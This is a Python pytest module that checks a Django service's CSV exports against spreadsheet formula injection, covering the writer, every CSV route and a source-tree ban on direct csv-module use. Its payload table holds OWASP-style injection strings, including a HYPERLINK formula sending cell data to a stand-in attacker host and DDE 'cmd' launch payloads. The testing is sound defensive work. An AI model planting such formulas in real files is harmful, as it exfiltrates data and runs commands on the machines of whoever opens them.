"""Every CSV the service writes neutralises spreadsheet formulas, in every column text can reach.

Three layers: the writer itself (``apps.common.csv_export``) against each class of dangerous start; every
route that can answer ``text/csv`` (found from the views' renderers) fed hostile text in every text column
of the rows it exports; and the source tree, where nothing but the writer may use the ``csv`` module to
write, so an admin action, report or script cannot bypass it.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.db import DataError, IntegrityError, models, transaction
from rest_framework.test import APIClient

from apps.common.csv_export import csv_lines, is_dangerous, neutralise
from apps.users.models import User
from apps.users.services import token_pair_for

from .routes import all_routes

ROOT = Path(__file__).resolve().parents[2]

# One value per class of dangerous start (OWASP "CSV Injection", plus the variants it warns about).
PAYLOADS: dict[str, str] = {
    "equals": '=HYPERLINK("https://evil.example/?d="&G3,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2+cmd|' /C calc'!A0",
    "carriage return": "\r=1+2+cmd|' /C calc'!A0",
    "line feed": "\n=1+2",
    "spaces first": '   =WEBSERVICE("https://evil.example/")',
    "quote first": '"=1+2";=1+2',
    "full-width equals": "\uff1dSUM(1,2)",
}
NUMBER = re.compile(r"\A-?\d+(\.\d+)?\Z")  # a spreadsheet reads it as a number, never as a formula


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(cells: list[list[str]]) -> None:
    bad = [cell for row in cells for cell in row if is_dangerous(cell) and not NUMBER.match(cell)]
    assert not bad, f"cells a spreadsheet would run: {bad!r}"


# --- the writer -----------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_writer_quotes_every_dangerous_start(payload: str) -> None:
    text = "".join(csv_lines(["a", "b"], [{"a": payload, "b": "Asha"}]))
    cells = parse(text)
    assert cells == [["a", "b"], ["'" + payload, "Asha"]]  # shown as text, nothing else changed
    assert_no_formula(cells)


def test_the_writer_encloses_and_doubles_quotes_as_owasp_shows() -> None:
    lines = list(csv_lines(["a"], [{"a": '=1+2";=1+2'}, {"a": "=1+2'\" ;,=1+2"}]))
    assert lines[1] == '"\'=1+2"";=1+2"\r\n'
    assert lines[2] == '"\'=1+2\'"" ;,=1+2"\r\n'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Asha", "Asha"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        ("'=already text", "'=already text"),
        (None, ""),
        (7, "7"),
        (-7, "-7"),
        (Decimal("-12.50"), "-12.50"),
        (True, "True"),
    ],
)
def test_the_writer_leaves_harmless_values_and_numbers_alone(value: Any, cell: str) -> None:
    assert parse("".join(csv_lines(["a"], [{"a": value}])))[1] == [cell]
    assert str(neutralise(value)) == cell


# --- every CSV route ------------------------------------------------------------------------------


def csv_routes() -> dict[str, Any]:
    """Route name -> view, for every view that negotiates ``text/csv`` (read from the URL resolver)."""
    found = {}
    for route in all_routes(("admin/", "static/", "media/")):
        renderers = getattr(route.view_class, "renderer_classes", ())
        if any(getattr(renderer, "media_type", "") == "text/csv" for renderer in renderers):
            found[route.name] = route.view_class
    return found


@dataclass
class Export:
    """What a seed made: the export's URL (JSON by default; CSV with ``?format=csv``), who may read it,
    and one group of stored rows per payload class, whose text columns the test overwrites."""

    url: str
    reader: User
    groups: list[list[models.Model]]


def _manifest(count: int) -> Export:
    from apps.bookings import services
    from apps.treks.tests.factories import BatchFactory
    from apps.users.tests.factories import UserFactory

    batch = BatchFactory(total_seats=2 * count)
    groups: list[list[models.Model]] = []
    for _ in range(count):
        booking = services.booking_create(
            user=UserFactory(),
            batch_id=batch.pk,
            participants=[{"name": "Lead", "age": 30}, {"name": "Two", "age": 31}],
        )
        groups.append([booking, *booking.participants.all()])
    return Export(
        url=f"/api/v1/batches/{batch.pk}/manifest/", reader=UserFactory(staff_role="ops_manager"), groups=groups
    )


# Route name -> a seed making ``count`` exported groups. A new CSV route fails the test below until it has one.
SEEDS: dict[str, Callable[[int], Export]] = {"batch-manifest": _manifest}


def test_every_csv_route_has_a_seed() -> None:
    routes = csv_routes()
    assert routes, "no route answers text/csv: the walk is broken"
    assert set(routes) == set(SEEDS), f"CSV routes {sorted(routes)}, seeds {sorted(SEEDS)}"


def _text_fields(obj: models.Model) -> list[models.Field[Any, Any]]:
    return [
        f
        for f in obj._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField) and not f.choices and not f.primary_key
    ]


def _fill(obj: models.Model, payload: str) -> None:
    """Every free-text column of the stored row becomes ``payload`` (cut to the column's length)."""
    for f in _text_fields(obj):
        value = payload[: f.max_length] if f.max_length else payload
        try:
            with transaction.atomic():
                type(obj)._default_manager.filter(pk=obj.pk).update(**{f.attname: value})
        except (IntegrityError, DataError):
            continue  # the database refuses such text here, so no export can show it


def _carries(value: Any, payload: str) -> bool:
    """``value`` is ``payload``, perhaps cut to its column's length."""
    return isinstance(value, str) and len(value) >= 4 and payload.startswith(value)


def _cell(value: Any) -> str:
    """What the CSV must hold for a JSON value of the same row and column."""
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if is_dangerous(value) else value
    return str(value)


@pytest.mark.django_db
@pytest.mark.parametrize("route", sorted(SEEDS))
def test_every_text_column_of_every_csv_export_is_neutralised(route: str) -> None:
    export = SEEDS[route](len(PAYLOADS))
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {token_pair_for(export.reader)['access']}")
    before = client.get(export.url).json()
    for payload, group in zip(PAYLOADS.values(), export.groups, strict=True):
        for obj in group:
            _fill(obj, payload)
    after = client.get(export.url).json()
    response = client.get(export.url + "?format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    cells = parse(b"".join(response.streaming_content).decode())
    header, rows = cells[0], cells[1:]
    assert len(rows) == len(after) == len(before)

    # The hostile text reached the export: every column that changed now holds a payload, and every class
    # of payload reached some cell.
    reached = {col for old, new in zip(before, after, strict=True) for col in new if old[col] != new[col]}
    assert reached, "no exported column comes from the rows the seed made"
    for old, new in zip(before, after, strict=True):
        for col in reached:
            assert old[col] == new[col] or any(_carries(new[col], p) for p in PAYLOADS.values()), (col, new[col])
    seen = {name for name, p in PAYLOADS.items() if any(_carries(v, p) for row in after for v in row.values())}
    assert seen == set(PAYLOADS)

    # Every cell of the CSV is the JSON value, with a quote in front where a spreadsheet would run it.
    assert header == list(after[0])
    for row, json_row in zip(rows, after, strict=True):
        assert row == [_cell(json_row[col]) for col in header]
    assert_no_formula(cells)


# --- the source tree ------------------------------------------------------------------------------

WRITER = ROOT / "apps" / "common" / "csv_export.py"


def _writes_csv_itself(path: Path) -> bool:
    tree = ast.parse(path.read_text(), filename=str(path))
    for node in ast.walk(tree):
        if isinstance(node, ast.Import) and any(alias.name.split(".")[0] == "csv" for alias in node.names):
            return True
        if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "csv" and node.level == 0:
            return True
    return False


def test_nothing_but_the_writer_uses_the_csv_module() -> None:
    sources = [
        path
        for folder in ("apps", "config", "scripts")
        for path in (ROOT / folder).rglob("*.py")
        if "tests" not in path.relative_to(ROOT).parts and path != WRITER
    ]
    assert len(sources) > 50
    offenders = [str(path.relative_to(ROOT)) for path in sources if _writes_csv_itself(path)]
    assert not offenders, f"write CSV through apps.common.csv_export, not the csv module: {offenders}"
